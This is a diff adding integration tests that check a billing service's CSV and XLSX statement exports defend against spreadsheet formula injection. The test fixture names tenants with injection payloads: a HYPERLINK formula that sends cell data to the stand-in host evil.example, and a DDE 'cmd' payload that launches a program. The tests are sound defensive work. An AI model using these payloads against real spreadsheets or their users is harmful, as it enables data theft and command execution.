@@ -17,6 +17,7 @@ from litestar.response import Stream
 from hub.billing import exports
 from hub.billing.schemas import Statement
 from hub.db import SingleConnectionDatabase
+from hub.exports import cells as exports_cells
 from tenants.service import authenticate
 from tests.factories import bearer, make_key
 from tests.integration.billing.conftest import OCTOBER, close
@@ -120,3 +121,54 @@ async def test_an_open_month_is_404_before_any_byte(
     resp = await client.get(f"/v1/billing/2026-10/statement{suffix}", headers=bearer(operator))
     assert resp.status_code == 404
     assert resp.json()["error"] == "not_found"
+
+
+HOSTILE_NAMES = {
+    "510104": '=HYPERLINK("http://evil.example/?"&A1,"查看")',
+    "510105": "+1+cmd|' /C calc'!A0",
+    "510300": "-2+3\x01",  # and a character XML cannot carry
+}
+
+
+@pytest.fixture
+async def hostile(conn: asyncpg.Connection, operator: str) -> str:
+    """Counties that named themselves as formulas before October closed with their lines."""
+    for code, name in HOSTILE_NAMES.items():
+        await conn.execute("UPDATE tenants SET name = $2 WHERE code = $1", code, name)
+    await close(conn, OCTOBER)
+    return await make_key(conn, "510000")
+
+
+async def test_xlsx_has_no_formula_cell_anywhere(client: httpx.AsyncClient, hostile: str) -> None:
+    resp = await client.get("/v1/billing/2026-10/statement.xlsx", headers=bearer(hostile))
+    assert resp.status_code == 200, resp.text
+    book = openpyxl.load_workbook(io.BytesIO(resp.content))
+    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
+    assert [c.coordinate for c in cells if c.data_type == "f"] == []
+    # The names are there, exactly as written, as text a spreadsheet shows and never runs.
+    names = {c.value: c for c in cells if isinstance(c.value, str)}
+    for name in HOSTILE_NAMES.values():
+        shown = name.replace("\x01", "\ufffd")
+        assert names[shown].data_type == "s"
+        assert names[shown].quotePrefix
+
+
+async def test_csv_cells_that_a_spreadsheet_would_run_are_quoted(
+    client: httpx.AsyncClient, hostile: str
+) -> None:
+    resp = await client.get("/v1/billing/2026-10/statement.csv", headers=bearer(hostile))
+    assert resp.status_code == 200, resp.text
+    rows = list(csv.reader(io.StringIO(resp.content.decode("utf-8-sig"))))
+    names = {row[1]: row[2] for row in rows[1:-1]}
+    assert names == {code: "'" + name for code, name in HOSTILE_NAMES.items()}
+    for row in rows:
+        for cell in row:
+            assert not cell.startswith(exports_cells.FORMULA_STARTS) or _is_number(cell), cell
+
+
+def _is_number(cell: str) -> bool:
+    try:
+        Decimal(cell)
+    except ArithmeticError:
+        return False
+    return True
